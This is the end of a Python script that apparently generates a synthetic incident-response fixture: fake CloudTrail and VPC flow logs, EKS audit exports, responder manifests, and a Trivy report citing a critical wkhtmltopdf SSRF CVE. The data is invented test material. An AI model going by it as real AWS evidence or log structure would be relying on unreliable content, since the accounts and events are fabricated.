                              "PkgName": "wkhtmltopdf", "InstalledVersion": "0.12.6-2+b1", "Status": "affected",
                              "Layer": {"DiffID": "sha256:" + "2d4f6a8c" * 8},
                              "SeveritySource": "nvd", "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2022-35583",
                              "Title": "wkhtmltopdf: Server Side Request Forgery (SSRF) via crafted HTML or URL",
                              "Description": "wkhtmlTOpdf 0.12.6 is vulnerable to SSRF which allows an attacker to get "
                                             "initial access into the target's system by injecting iframe tag with "
                                             "initial asset IP address on it's source.",
                              "Severity": "CRITICAL", "CweIDs": ["CWE-918"],
                              "CVSS": {"nvd": {"V3Vector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "V3Score": 9.8}},
                              "PublishedDate": "2022-08-22T15:15:00Z", "LastModifiedDate": "2024-11-21T07:11:00Z"}]}]}


# ------------------------------------------------------------------------------------------------------------ main
def main():
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    s3 = lambda key, data, gz=False: write("s3/" + key, data, gz=gz)
    # the organization trail (one bucket for the organization's accounts)
    for (acct, region), body in cloudtrail().items():
        s3("AWSLogs/%s/%s/CloudTrail/%s/2026/11/23/%s_CloudTrail_%s_20261123T0915Z_%s.json.gz"
           % (ORG, acct, region, acct, region, "Hf3Kq8Zr2Wn5Tb7X" if acct == ACCT else "Lp4Vs9Ec1Ym6Ud0R"), body, gz=True)
    # both accounts' flow logs to the same bucket (flow logs have no organization layout), v5 fields with the header
    for acct, rows in ((ACCT, flows_a()), (ACCT_B, flows_b())):
        s3("AWSLogs/%s/vpcflowlogs/%s/2026/11/23/%s_vpcflowlogs_%s_fl-0%s_20261123T1000Z_%s.log.gz"
           % (acct, REGION, acct, REGION, "a77f5e3d1c9b7a524" if acct == ACCT else "b77e4d2c0b8a69413",
              "3c5e7a9b" if acct == ACCT else "4d6f8b0c"), "\n".join(rows) + "\n", gz=True)
    # CloudWatch Logs export tasks the responders ran into the bucket, one destination prefix per log group:
    # aws logs create-export-task --log-group-name /aws/eks/<cluster>/cluster --destination-prefix cwl-exports/<cluster> ...
    # (each task first writes aws-logs-write-test at the prefix's root)
    for prefix, task, stream, events in (
            ("cwl-exports/" + CLUSTER, "8a1f3c5e-7b9d-4f2a-a6c8-0e2d4f6a8c1b",
             "kube-apiserver-audit-77a1c3e5f7b9d1f3a5c7e9b1d3f5a7c9", audit_a()),
            ("cwl-exports/" + CLUSTER_B, "9b2a4d6f-8c0e-4a3b-b7d9-1f3e5a7b9d2c",
             "kube-apiserver-audit-88b2d4f6a8c0e2a4b6d8f0a2c4e6b8d0", audit_b())):
        s3(prefix + "/aws-logs-write-test", "Permission Check Successful")
        s3("%s/%s/%s/000000.gz" % (prefix, task, stream), audit_export(events), gz=True)
    app_prefix, app_task = "cwl-exports/" + CLUSTER + "-app", "0c3b5e7a-9d1f-4b4c-c8e0-2a4f6b8d0e3d"
    s3(app_prefix + "/aws-logs-write-test", "Permission Check Successful")
    for stream, events in app_logs().items():
        s3("%s/%s/%s/000000.gz" % (app_prefix, app_task, stream), export_lines(events), gz=True)
    # what the export tasks' objects do not say (the log group: which cluster; the account), in a context manifest the
    # responders wrote beside them (strata pull-s3 reads it before the prefix's objects)
    s3("cwl-exports/strata-context.yaml", "\n".join([
        "# one destination prefix per export task: /aws/eks/<cluster>/cluster and the Fargate pods' log group",
        "- path: " + CLUSTER, "  cluster: " + CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: " + REGION,
        "- path: " + CLUSTER + "-app", "  cluster: " + CLUSTER, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT,
        "  cloud_region: " + REGION,
        "- path: " + CLUSTER_B, "  cluster: " + CLUSTER_B, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT_B,
        "  cloud_region: " + REGION]) + "\n")
    s3("responder/strata-context.yaml", "\n".join([
        "- path: " + ACCT, "  cloud_provider: aws", '  cloud_account: "%s"' % ACCT, "  cloud_region: " + REGION]) + "\n")
    # the responders' own exports
    s3("responder/%s/ec2-describe-network-interfaces-fargate-20261123T1030Z.json" % ACCT,
       json.dumps(fargate_enis(), indent=4) + "\n")
    s3("responder/%s/trivy-thumbnailer-2.4.1.json" % ACCT, json.dumps(trivy_report(), indent=2) + "\n")


if __name__ == "__main__":
    main()
